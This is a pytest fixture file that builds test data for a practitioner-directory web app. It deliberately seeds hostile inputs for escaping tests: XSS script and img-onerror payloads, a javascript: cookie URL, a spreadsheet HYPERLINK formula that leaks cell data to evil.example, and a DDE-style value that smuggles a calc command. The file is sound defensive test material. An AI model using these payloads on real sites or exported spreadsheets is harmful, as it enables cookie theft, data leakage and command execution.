"""A small, realistic data directory for the web front end's tests, hostile text included.

Pages are saved through the store as a crawl would save them, practitioners are
resolved and scored, and the index is built, so the web reads what production reads.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient

from crawler.items import (
    Address,
    Credential,
    Extraction,
    Geo,
    PageItem,
    Practitioner,
    Rating,
    RegistryEntry,
    Review,
)
from index import identity
from index.datadir import DataDir
from index.store import Store
from index.update import update

__all__ = ["HOSTILE", "WebData", "app", "client", "close_made_apps", "make_app", "web_data"]

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
JS_URL = "javascript:alert(document.cookie)"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
HOSTILE = (SCRIPT, IMG, JS_URL, FORMULA)
FETCHED = "2026-11-01T10:00:00+00:00"
OLD_FETCH = "2025-06-01T10:00:00+00:00"  # long before "today": a stale listing


def _review(
    body: str,
    rating: float | None,
    date: str,
    author: str | None = "Sam R.",
    flags: list[str] | None = None,
    positive: list[str] | None = None,
    negative: list[str] | None = None,
) -> Review:
    return Review(
        body=body,
        author=author,
        rating=rating,
        date=date,
        flags=flags or [],
        ease={"positive": positive or [], "negative": negative or []},
    )


def _practitioner(
    name: str, city: str, region: str, postal: str, geo: tuple[float, float], **fields: object
) -> Practitioner:
    return Practitioner(
        name=name,
        address=Address(
            street="100 Main St", locality=city, region=region, postal_code=postal, country="US"
        ),
        geo=Geo(*geo),
        **fields,  # type: ignore[arg-type]
    )


def pages() -> list[PageItem]:
    """What a crawl of three listings, two clinic sites, a review site and a registry yields."""
    crown = _practitioner(
        "Crown SMP Studio",
        "Dallas",
        "TX",
        "75201",
        (32.7876, -96.7994),
        telephone="+12145550134",
        website="https://crownsmp.example/",
        rating=Rating(4.8, 6),
        services=["smp", "hairline", "scar-camouflage", "removal-laser", "correction"],
        credentials=[
            Credential(
                kind="training",
                text="Trained at Pinpoint SMP Academy, 120 hours, 2019",
                issuer="Pinpoint SMP Academy",
                hours=120,
                year=2019,
            ),
            Credential(
                kind="licence",
                text="Texas tattoo studio licence TX-12345",
                issuer="Texas Department of State Health Services",
                licence_number="TX-12345",
            ),
        ],
    )
    lone = _practitioner(
        "Lone Star Scalp Clinic",
        "Austin",
        "TX",
        "78701",
        (30.2672, -97.7431),
        telephone="+15125550188",
        website="https://lonestarscalp.example/",
        services=["smp", "density"],
        credentials=[Credential(kind="certification", text="Certified SMP artist")],
    )
    hostile = _practitioner(
        f"Houston Ink {SCRIPT}",
        "Houston",
        "TX",
        "77002",
        (29.7604, -95.3698),
        telephone="+17135550111",
        website=JS_URL,
        email=f"x{IMG}@evil.example",
        services=["smp", "female"],
        credentials=[Credential(kind="training", text=f"Trained by {IMG} masters {FORMULA}")],
    )
    fresh = _practitioner(
        "Fresh Start Removal",
        "Dallas",
        "TX",
        "75204",
        (32.8021, -96.7908),
        telephone="+12145550199",
        website="https://freshstart.example/",
        services=["removal-saline", "removal-undo", "correction"],
    )
    old = _practitioner(
        "Plano Scalp Artistry",
        "Plano",
        "TX",
        "75074",
        (33.0198, -96.6989),
        telephone="+19725550123",
        services=["smp"],
    )
    artist = Practitioner(
        name="Jordan Lee",
        kind="artist",
        works_for="Crown SMP Studio",
        address=Address(locality="Dallas", region="TX", country="US"),
        credentials=[Credential(kind="experience", text="8 years of SMP", years=8)],
    )
    crown_reviews = [
        _review(
            "Jordan answered all my questions and explained the depth and pigment. The"
            " hairline looks natural.",
            5,
            "2026-09-12",
            "Alex P.",
            positive=["answered-questions", "explained-process"],
        ),
        _review(
            "Very professional, I felt at ease the whole time.",
            5,
            "2026-08-02",
            "Chris",
            positive=["put-at-ease", "professional"],
        ),
        _review("Great scar camouflage over my FUE scar.", 4, "2026-07-21", "Dana"),
        _review(
            "Good result, a little rushed at the end.",
            4,
            "2026-05-30",
            "Morgan",
            negative=["rushed"],
        ),
    ]
    lone_reviews = [
        _review(
            "After six months my head looks blue and the dots have blurred together.",
            1,
            "2026-10-01",
            "Pat",
            flags=["discoloration", "migration"],
        ),
        _review(
            "Looks like a helmet, flat and painted on.",
            2,
            "2026-09-15",
            "Robin",
            flags=["helmet"],
            negative=["pushy"],
        ),
        _review("Okay work, fair price.", 3, "2026-06-10", "Sky"),
    ]
    burst = "Best SMP in Houston, amazing results, I highly recommend this studio to everyone!"
    hostile_reviews = [
        *(_review(burst, 5, "2026-10-19", f"Fan {n}") for n in range(6)),
        _review(SCRIPT, 5, "2026-10-20", f"{IMG}"),
        _review(f"Amazing!! {IMG} see {JS_URL}", 5, "2026-10-21", FORMULA),
        _review(FORMULA, 5, "2026-10-22", "@SUM(1+1)*cmd|' /C calc'!A0"),
        _review(
            "-2+3 looks blue now, bluish tinge",
            1,
            "2026-10-23",
            "+Tab\tCR\r",
            flags=["discoloration"],
        ),
    ]
    fresh_reviews = [
        _review(
            "They removed my old blue SMP with saline, slow healing but it worked.",
            5,
            "2026-04-02",
            "Lee",
            positive=["honest"],
        ),
    ]
    return [
        _page(
            "https://smpdirectory.example/artist/crown", [crown], [], "smpdirectory", "directory"
        ),
        _page(
            "https://crownsmp.example/", [crown, artist], [], "crownsmp", "clinic", own_site=True
        ),
        _page("https://smpreviews.example/crown", [crown], crown_reviews, "smpreviews", "reviews"),
        _page(
            "https://smpdirectory.example/artist/lonestar", [lone], [], "smpdirectory", "directory"
        ),
        _page("https://smpreviews.example/lonestar", [lone], lone_reviews, "smpreviews", "reviews"),
        _page(
            "https://smpdirectory.example/artist/houston",
            [hostile],
            hostile_reviews,
            "smpdirectory",
            "directory",
        ),
        _page(
            "https://smpdirectory.example/artist/fresh",
            [fresh],
            fresh_reviews,
            "smpdirectory",
            "directory",
        ),
        _page(
            "https://oldlistings.example/plano",
            [old],
            [],
            "oldlistings",
            "directory",
            fetched_at=OLD_FETCH,
        ),
        PageItem(
            source="txlicences",
            source_kind="registry",
            url="https://registry.example/tx/licences",
            status=200,
            fetched_at=FETCHED,
            registry=[
                RegistryEntry(
                    name="Crown SMP Studio",
                    credential="licence",
                    issuer="Texas Department of State Health Services",
                    status="active",
                    licence_number="TX-12345",
                    locality="Dallas",
                    region="TX",
                    text="Crown SMP Studio, Dallas TX, TX-12345, active",
                )
            ],
            registry_complete=False,
        ),
    ]


def _page(
    url: str,
    people: list[Practitioner],
    reviews: list[Review],
    source: str,
    kind: str,
    *,
    own_site: bool = False,
    fetched_at: str = FETCHED,
) -> PageItem:
    return PageItem(
        source=source,
        source_kind=kind,
        url=url,
        status=200,
        fetched_at=fetched_at,
        own_site=own_site,
        extraction=Extraction(url, people, reviews),
    )


@dataclass
class WebData:
    datadir: DataDir
    ids: dict[str, str]  # name -> practitioner id

    def id(self, name_start: str) -> str:
        return next(v for k, v in self.ids.items() if k.startswith(name_start))


def build(root: Path) -> WebData:
    """Save the pages, resolve identities, then score and index as `smpvet index` does."""
    datadir = DataDir(root).ensure()
    with Store(datadir.store) as store:
        for item in pages():
            store.save_page(item)
        identity.resolve(store)
        ids = {
            r["name"]: r["id"]
            for r in store.conn.execute("SELECT id, name FROM practitioners WHERE gone = 0")
        }
    update(datadir, rebuild=True)
    return WebData(datadir, ids)


@pytest.fixture(scope="session")
def web_data(tmp_path_factory: pytest.TempPathFactory) -> WebData:
    return build(tmp_path_factory.mktemp("web") / "var")


_made: list[Flask] = []


@pytest.fixture(scope="module", autouse=True)
def close_made_apps() -> Iterator[None]:
    """Close the search services (and their open index files) of the apps a module made."""
    from webapp.db import close_search

    yield
    while _made:
        close_search(_made.pop())


def make_app(datadir: DataDir, **config: object) -> Flask:
    from webapp import create_app

    settings: dict[str, object] = {
        "TESTING": True,
        "DATA_DIR": str(datadir.root),
        "SECRET_KEY": "test-secret-key-not-for-production-0123456789",
        "RATELIMIT_ENABLED": False,
        "WTF_CSRF_ENABLED": False,
        "SOURCES_FILE": str(datadir.root / "sources.toml"),
    }
    settings.update(config)
    app = create_app(settings)
    _made.append(app)
    return app


@pytest.fixture
def app(web_data: WebData) -> Flask:
    return make_app(web_data.datadir)


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    return app.test_client()
